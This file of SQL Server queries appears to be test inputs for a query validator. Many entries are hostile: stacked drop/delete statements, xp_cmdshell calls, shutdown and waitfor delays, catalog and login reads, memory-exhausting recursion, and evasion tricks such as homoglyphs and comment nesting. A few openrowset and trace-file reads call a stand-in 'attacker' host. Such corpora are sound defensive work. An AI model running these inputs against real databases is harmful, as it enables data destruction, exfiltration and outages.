select 1; drop table customers
---
select 1; select 2
---
select 1 drop table customers
---
select 1 select 2
---
select id from customers select name from customers
---
select id from customers delete from customers
---
select id from customers update customers set name = 'x'
---
select id from customers insert into customers values (1)
---
select id from customers truncate table customers
---
select id from customers exec xp_cmdshell 'dir'
---
select id from customers exec('drop table customers')
---
select id from customers execute sp_who
---
select id from customers shutdown
---
select id from customers shutdown with nowait
---
select 1 shutdown
---
select 1 as a shutdown
---
select id from customers c shutdown
---
select id from customers as c checkpoint
---
select id from customers commit
---
select id from customers rollback
---
select id from customers rollback tran
---
select id from customers commit transaction
---
select id from customers begin tran
---
select id from customers save tran x
---
select id from customers revert
---
select id from customers reconfigure
---
select id from customers reconfigure with override
---
select id from customers kill 53
---
select id from customers kill
---
select id from customers use master
---
select id from customers waitfor delay '0:0:10'
---
select 1 waitfor delay '0:0:10'
---
select 1 waitfor time '23:00'
---
select 1 where 1 = 1 waitfor delay '0:0:10'
---
waitfor delay '0:0:10'
---
select id from customers print 'x'
---
select 1 print
---
select id from customers raiserror('x', 16, 1)
---
select id from customers raiserror('x', 20, 1) with log
---
select id from customers dbcc checkdb
---
select id from customers backup database master to disk = 'x'
---
select id from customers restore database x
---
select id from customers grant select on customers to public
---
select id from customers revoke select on customers from public
---
select id from customers deny select on customers to public
---
select id from customers setuser
---
select id from customers setuser 'dbo'
---
select id from customers set nocount on
---
select id from customers declare @x int
---
select id from customers open c
---
select id from customers close c
---
select id from customers deallocate c
---
select id from customers fetch next from c
---
select id from customers fetch next rows only
---
select id from customers goto x
---
select id from customers return
---
select id from customers break
---
select id from customers if 1 = 1 drop table customers
---
select id from customers while 1 = 1 select 1
---
select id from customers create table x (i int)
---
select id from customers alter table customers add x int
---
select id from customers merge into customers using orders on 1 = 1 when matched then delete
---
select id from customers bulk insert customers from 'x'
---
select id from customers readtext customers.notes 0x0 0 10
---
select id from customers writetext customers.notes 0x0 'x'
---
select id from customers dump database x
---
select id from customers load database x
---
select id from customers (select 1)
---
select id from customers limit (select 1)
---
(select 1) (select 2)
---
(select 1) select 2
---
select 1 from customers c join orders o on 1 = 1 drop table customers
---
select id from customers order by id drop table customers
---
select id from customers group by id drop table customers
---
select id from customers order by id offset 1 rows fetch next 1 rows only drop table customers
---
select 1 union select 2 drop table customers
---
select case when 1 = 1 then 1 end drop table customers
---
select 1 end drop table customers
---
with x as (select 1 as a) select a from x drop table customers
---
drop table customers
---
delete from customers
---
update customers set name = 'x'
---
insert into customers (id) values (1)
---
insert into customers exec sp_who
---
merge customers as t using orders as s on t.id = s.id when matched then delete;
---
truncate table customers
---
exec sp_who
---
execute xp_cmdshell 'dir'
---
sp_who
---
xp_cmdshell 'dir'
---
declare @x int select @x
---
declare @s nvarchar(100) = 'drop table customers'; exec(@s)
---
begin tran
---
set implicit_transactions on
---
use master
---
kill 53
---
shutdown
---
create table x (id int)
---
alter login sa enable
---
grant control to public
---
backup log x to disk = 'nul'
---
dbcc page(1, 1, 0)
---
print 'x'
---
if 1 = 1 select 1
---
while 1 = 1 select 1
---
begin select 1 end
---
go
---
select * into x from customers
---
select * into #x from customers
---
select * into dbo.x from customers
---
select id, name into ##x from customers
---
select * into x.dbo.y from customers
---
with x as (select 1 as a) select a into y from x
---
with x as (select id from customers) delete from x
---
with x as (select id from customers) update x set id = 1
---
with x as (select id from customers) insert into customers select id from x
---
with x as (delete from customers output deleted.id) select * from x
---
select * from (delete from customers output deleted.id) x
---
select * from (update customers set name = 'x' output inserted.id) as t
---
select * from openrowset('SQLNCLI', 'Server=x;Trusted_Connection=yes;', 'select 1')
---
select * from openrowset(bulk 'c:\boot.ini', single_clob) as x
---
select * from openrowset(bulk N'https://attacker/x', single_clob) x
---
select * from opendatasource('SQLNCLI', 'Data Source=x').master.dbo.t
---
select * from openquery(linked, 'select 1')
---
select * from openxml(1, '/a', 1)
---
select * from openxml(1, '/a', 1) with (a int)
---
select * from linked.master.dbo.t
---
select * from [linked].[master].[sys].[databases]
---
select * from master.dbo.spt_values
---
select * from master..spt_values
---
select * from master..sysdatabases
---
select * from other.dbo.customers
---
select * from other..customers
---
select * from ..customers
---
select * from .dbo.customers
---
select name from sys.objects
---
select * from sys.tables
---
select * from [sys].[sql_logins]
---
select * from SYS.databases
---
select * from "sys"."dm_exec_sessions"
---
select * from sys.dm_exec_sql_text(0x0)
---
select * from sys.fn_my_permissions(null, 'SERVER')
---
select * from information_schema.tables
---
select * from INFORMATION_SCHEMA.COLUMNS
---
select * from sysobjects
---
select * from dbo.sysobjects
---
select * from syslogins
---
select * from sysprocesses
---
select * from [sys ].objects
---
select * from msdb.dbo.sysjobs
---
select * from tempdb.sys.objects
---
select * from #t
---
select * from ##t
---
select * from @t
---
select @@version
---
select @@servername, @@spid
---
select @x = 1
---
select @x = name from customers
---
select @@identity
---
select id from customers where name = @name
---
select top (@n) id from customers
---
select suser_name()
---
select suser_sname(), system_user
---
select system_user
---
select session_user
---
select user
---
select user_name()
---
select db_name(), db_name(1)
---
select host_name(), app_name()
---
select has_perms_by_name(null, null, 'VIEW SERVER STATE')
---
select is_srvrolemember('sysadmin'), is_member('db_owner')
---
select serverproperty('productversion')
---
select databasepropertyex('master', 'collation')
---
select connectionproperty('client_net_address')
---
select object_id('customers'), object_name(1)
---
select object_definition(object_id('p'))
---
select col_name(1, 1), col_length('a', 'b')
---
select session_context(N'x'), context_info()
---
select fn_varbintohexstr(0x41)
---
select sys.fn_varbintohexstr(0x41)
---
select * from fn_dblog(null, null)
---
select * from ::fn_trace_gettable('x', 1)
---
select * from fn_xe_file_target_read_file('\\attacker\x', null, null, null)
---
select * from sys.fn_get_audit_file('\\attacker\x\*', null, null)
---
select master.dbo.fn_varbintohexstr(0x41)
---
select pwdencrypt('x'), pwdcompare('x', 0x0)
---
select encryptbypassphrase('x', 'y'), decryptbypassphrase('x', 0x0)
---
select decompress(0x1F8B)
---
select compress(replicate('a', 100))
---
select ident_current('customers'), scope_identity()
---
select next value for seq
---
select next value for dbo.seq over (order by id) from customers
---
select newsequentialid()
---
select formatmessage(50001)
---
select dbo.my_function(1)
---
select my_function(1)
---
select [count](1)
---
select [xp_cmdshell]('dir')
---
select xp_cmdshell('dir')
---
select * from my_tvf(1)
---
select * from dbo.my_tvf(1)
---
select * from abs(1)
---
select * from customers cross apply dbo.my_tvf(id)
---
select * from customers c cross apply sys.dm_exec_sql_text(c.notes)
---
select name.value('(/a)[1]', 'int') from customers
---
select spec.value('(/a)[1]', 'int') from products
---
select spec.query('/a') from products
---
select t.x.value('.', 'int') from products cross apply spec.nodes('/a') t(x)
---
select (select name from customers for xml path(''), type).value('sql:column("secret")', 'nvarchar(max)')
---
select (select name from customers for xml path(''), type).query('.')
---
select (select spec from products).value('.', 'nvarchar(max)')
---
select geography::Point(1, 2, 4326)
---
select geography::STGeomFromText('POINT(1 1)', 4326).STBuffer(1)
---
select hierarchyid::GetRoot()
---
select cast('x' as dbo.my_type)
---
select cast('x' as my_type)
---
select cast('/1/' as hierarchyid)
---
select cast('POINT(1 1)' as geography)
---
select parse('1' as int using 'en-US')
---
select * from customers with (updlock)
---
select * from customers with (tablockx)
---
select * from customers with (xlock, rowlock)
---
select * from customers with (holdlock)
---
select * from customers with (serializable)
---
select * from customers with (repeatableread)
---
select * from customers with (tablock)
---
select * from customers with (nolock, updlock)
---
select * from customers c with (paglock)
---
select * from customers c (updlock)
---
select * from customers as c (tablockx)
---
select * from customers (updlock)
---
select * from customers (tablockx) c
---
select * from customers c join orders o using (tablockx)
---
select * from customers c join orders o using (id)
---
select * from customers c natural join orders o
---
select * from customers option (maxrecursion 0)
---
select * from customers option (recompile)
---
select * from customers option (table hint(customers, tablockx))
---
select * from customers option (use hint('x'))
---
select * from customers for browse
---
select * from customers for update
---
select * from customers for xml explicit, xmldata
---
select * from customers limit 10
---
select * from customers limit 10 offset 5
---
select * from customers fetch first 5 rows only
---
select true
---
select date 'x' from customers
---
select date '2024-01-01'
---
select timestamp '2024-01-01'
---
select x'41'
---
select b'01'
---
select e'\x41'
---
select secret from customers
---
select c.secret from customers c
---
select customers.secret from customers
---
select * from secrets
---
select * from dbo.secrets
---
select * from sales.customers
---
select name from customers where id = (select password from users)
---
select name from customers order by secret
---
select 1 from customers c cross apply (select secret from users) s
---
select [paid] from customers pivot (sum(secret) for status in ([paid])) p
---
select amount from sales.regions unpivot (amount for quarter in (q1, secret)) u
---
select id from ｃustomers
---
select id from ｓys.objects
---
select id from [ｓys].objects
---
select 1 /*! union select 2 */
---
select 1 /* /* */ union select name from sys.objects
---
select 'a' 'b' drop table customers
---
select '\' drop table customers --'
---
select "a' from customers
---
select [a' from customers; drop table customers --]
---
select 1 as [a]; drop table customers --]
---
select {fn now()}
---
select {ts '2024-01-01 00:00:00'}
---
select ?
---
select :x
---
select $action
---
select $identity from customers
---
select $partition.f(1)
---
select identitycol from customers
---
select a:b from customers
---
select x: 1
---
select customers.* from customers where current of c
---
select replicate(cast('a' as varchar(max)), 2000000000)
---
select replicate('a', 1000000000)
---
select replicate(replicate(replicate('a', 8000), 8000), 8000)
---
select space(2000000000)
---
select str(1, 1000000000)
---
select charindex(replicate('b', 90000) + 'a', replicate('b', 99000))
---
select patindex('%' + replicate('a%', 40000), replicate('a', 90000))
---
select value from generate_series(1, 2000000000)
---
select a.value from generate_series(1, 100000) a cross join generate_series(1, 100000) b
---
select s.value from customers c cross apply generate_series(1, 100000000) s
---
with x as (select cast('a' as varchar(max)) as s union all select s + s from x) select len(s) from x
---
with x as (select cast('a' as varchar(max)) as s union all select concat(s, s) from x) select len(s) from x
---
with x as (select cast('a' as varchar(max)) as s union all select replace(s, 'a', s) from x) select len(s) from x
---
select string_agg(replicate('a', 90000), '') from generate_series(1, 1000000)
---
select (select replicate('a', 90000) as a from generate_series(1, 1000000) for xml path(''))
---
select cast('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' as xml)
---
select replace(replicate('a', 90000), 'a', replicate('b', 90000))
---
select * from containstable(customers, notes, 'x')
---
select * from freetexttable(customers, notes, 'x')
---
select * from semantickeyphrasetable(customers, notes)
---
select * from changetable(changes customers, 0) c
---
select * from predict(model = 1, data = customers as d) with (x int) as p
---
select * from xmltable('/a' passing notes columns a int path 'a')
---
select * from json_table('{}', '$' columns (a int path '$.a')) j
---
select * from customers at (timestamp => 1)
---
select * from table(f(1))
---
select * from lateral (select 1) x
---
select id from customers qualify row_number() over (order by id) = 1
---
with recursive n as (select 1 as i union all select i + 1 from n) select i from n
---
select distinct on (city) city from customers
---
select id::varchar from customers
---
select id from customers where name ilike 'a%'
---
select count(*) filter (where active = 1) from customers
---
select 1
go
drop table customers
---
select 1 -- x
drop table customers
---
select id from customers as c with (nolock), orders o (tablock)
---
select * from customers c cross join orders o (updlock)
---
select 1 where exists (select 1 from customers (xlock))
---
select 1 where exists (select 1 from customers c (xlock))
---
select * from (customers c join orders o (holdlock) on 1 = 1)
---
select iif(1 = 1, 1, 2) waitfor delay '0:0:9'
---
select id from customers order by id waitfor delay '0:0:5'
---
select id from customers group by id waitfor delay '0:0:5'
---
select id from customers group by id with rollup shutdown
---
select id from customers for xml path('') waitfor delay '0:0:5'
---
select id from customers for json path exec sp_who
---
select id from customers for json path shutdown
---
select id from customers for xml path(''), type shutdown
---
select count(*) over (order by id) exec sp_who
---
with x as (select 1 a) select a from x shutdown
---
select top 1 shutdown from customers
---
select id, shutdown from customers
---
select id from shutdown
---
select 1 union all select 2 shutdown
---
select cast(1 as int) shutdown
---
select * from string_split('a', ',') shutdown
---
select * from openjson('{}') shutdown
---
select * from openjson('{}') with (a int '$.a') shutdown
---
select * from (values (1)) v(a) shutdown
---
select * from (values (1)) shutdown(a)
---
select * from customers with (nolock) shutdown
---
select * from customers for system_time as of '2024' shutdown
---
select * from sales.regions unpivot (amount for quarter in (q1)) shutdown
---
select sum(id) over w from customers window w as (order by id) shutdown
---
select id from customers order by id offset 1 rows shutdown
---
select id from customers where id = 1 shutdown
---
select case 1 when 1 then 1 end shutdown
---
select (select 1) shutdown
---
select 'a' shutdown
---
select N'a' shutdown
---
select 0x41 shutdown
---
select $1 shutdown
---
select * shutdown from customers
---
select customers.* shutdown from customers
---
select id from customers as shutdown
---
select c.id from customers c join orders shutdown on 1 = 1
---
select c.id from customers c cross apply (select 1 a) shutdown
---
with shutdown as (select 1 a) select a from shutdown
---
select id from customers -- xshutdown
---
select id from customers c with (index(x), updlock)
---
select next value for dbo.seq from customers
---
select * from customers c outer apply openquery(x, 'select 1') y
---
select x.[key] from customers c cross apply sys.dm_exec_query_plan(0x0) x
---
select id as shutdown from customers
---
select id as waitfor from customers
---
select id from customers where name collate where = 'x'
---
select name collate select id from customers
---
select name collate exec sp_who from customers
